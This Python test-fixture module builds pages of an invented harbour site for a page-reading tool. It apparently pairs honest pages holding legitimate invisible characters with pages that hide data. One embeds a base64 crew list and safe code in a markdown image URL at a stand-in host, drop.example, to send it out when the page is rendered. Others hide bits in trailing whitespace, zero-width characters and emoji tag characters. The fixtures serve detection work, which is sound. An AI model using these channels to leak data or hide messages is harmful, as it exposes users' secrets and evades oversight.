"""Pages of an invented harbour's site, as a tool that reads pages gives them: honest ones, and ones that carry more than
they show. No SDK in here."""

from __future__ import annotations

import base64

import tides

CARRIED = b"crew list: Aud Fenwick, master; Bram Oyelaran, mate; Cora Lindqvist, engineer; safe 31-08-77"


def plain() -> str:
    return "# Saltwick\n\n" + "\n".join(f"- {notice}" for notice in tides.NOTICES) + "\n"


def bits() -> list[int]:
    return [byte >> place & 1 for byte in CARRIED[:24] for place in range(8)]


def image_with_data() -> str:
    """Whoever shows the page fetches the image, and sends what is in its address."""
    data = base64.urlsafe_b64encode(CARRIED).decode().rstrip("=")
    return plain() + f"\n![buoy](https://drop.example/buoy.png?d={data})\n"


def blanks_with_bits() -> str:
    """Six bits at the end of each line: a space is 0, a tab is 1."""
    values = bits()
    lines = [f"{place // 6 + 1:02d}. {tides.NOTICES[place % 5]}" for place in range(0, len(values), 6)]
    return (
        "\n".join(
            line + "".join("\t" if bit else " " for bit in values[number * 6 : number * 6 + 6])
            for number, line in enumerate(lines)
        )
        + "\n"
    )


def widthless_bits() -> str:
    """Bits between the words: two characters without width."""
    return plain() + "Good passage" + "".join("\u200d" if bit else "\u200c" for bit in bits()) + " to all.\n"


def flags() -> str:
    """Flags of regions and of a club, many of them: each region is spelled in tag characters."""
    regions = ["gbeng", "gbsct", "gbwls"]
    signs = ["\U0001f3f4" + "".join(chr(0xE0000 + ord(c)) for c in region) + "\U000e007f" for region in regions]
    rows = [f"| berth {number} | {signs[number % 3]} | \u26f5\ufe0f |" for number in range(1, 13)]
    return plain() + "\n".join(rows) + "\n"


def image_with_signature() -> str:
    """Pictures from a store: a signature, a credential, a token and a digest in the address."""
    signature = "9c4e1f0ab37d52688e17c3d09ab45f2e6d11840f7a2b93c5de06f8417cb2a95d"
    token = base64.urlsafe_b64encode(bytes(range(200))).decode()
    return plain() + (
        f"\n![north pontoon](https://pictures.example/pontoon.jpg?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
        f"EXAMPLE%2F20260511%2Fcoast-1%2Fs3%2Faws4_request&X-Amz-Date=20260511T060000Z&X-Amz-Expires=900"
        f"&X-Amz-Security-Token={token}&X-Amz-Signature={signature})\n"
        f"![bridge](https://pictures.example/_next/image?url=%2Fmedia%2F2026%2F05%2Fbridge.jpg&w=1200&q=75)\n"
    )


def table_with_padding() -> str:
    """Columns padded with spaces, and some lines that end in a tab, as exports of tables have them."""
    rows = [f"{harbour:<30}{height:>6.1f} m{' ' * 24}" for harbour, height in tides.HARBOURS.items() for _ in range(6)]
    return "\n".join(rows) + "\n" + "\n".join(f"{name}\t{height}\t" for name, height in tides.HARBOURS.items()) + "\n"


def persian() -> str:
    """Non-joiners are how Persian is written: one kind only, many of them."""
    return (
        "\u06a9\u0634\u062a\u06cc\u200c\u0647\u0627 \u0645\u06cc\u200c\u0631\u0648\u0646\u062f \u0648 \u0645\u06cc\u200c\u0622\u06cc\u0646\u062f. "
        * 40
    )


def card() -> str:
    """A picture that a service draws from the words in its address, as sites make them for previews."""
    title = "Notices to mariners for the week that begins on Monday the eleventh of May"
    return (
        f"# {title}\n\n![{title}](https://cards.example/og?title={title.replace(' ', '%20')}&theme=dark)\n\n" + plain()
    )


HONEST = {"read_pictures": image_with_signature(), "read_table": table_with_padding(), "read_persian": persian()}

SOFT = "Ha\u00adfen\u00admeis\u00adter, Schif\u00adfahrts\u00adzei\u00adchen und Brü\u00adcken\u00adöff\u00adnungs\u00adzei\u00adten. "
NOTES = "".join(f"{number}. {tides.NOTICES[number % 5]} \u21a9\ufe0e\n" for number in range(1, 11))
ISOLATED = "".join(
    f"\u2068{harbour}\u2069: \u05d2\u05d0\u05d5\u05ea \u2068{height}\u2069\n"
    for harbour, height in tides.HARBOURS.items()
)
VARIANTS = "\u845b\U000e0100\u57ce\u5e02\u3068\u8fbb\U000e0100\u5802\u6e2f\u306e\u6f6e\u6c50\u3002" * 5
TYPOGRAPHY = {
    "read_german": SOFT * 3,
    "read_footnotes": NOTES,
    "read_hebrew": ISOLATED,
    "read_japanese": VARIANTS,
}
"""Characters without a shape of their own that honest pages hold: soft hyphens; the selector of plain text behind the arrow
of a footnote; isolates around what a message has filled in; selectors of variants of Han characters."""
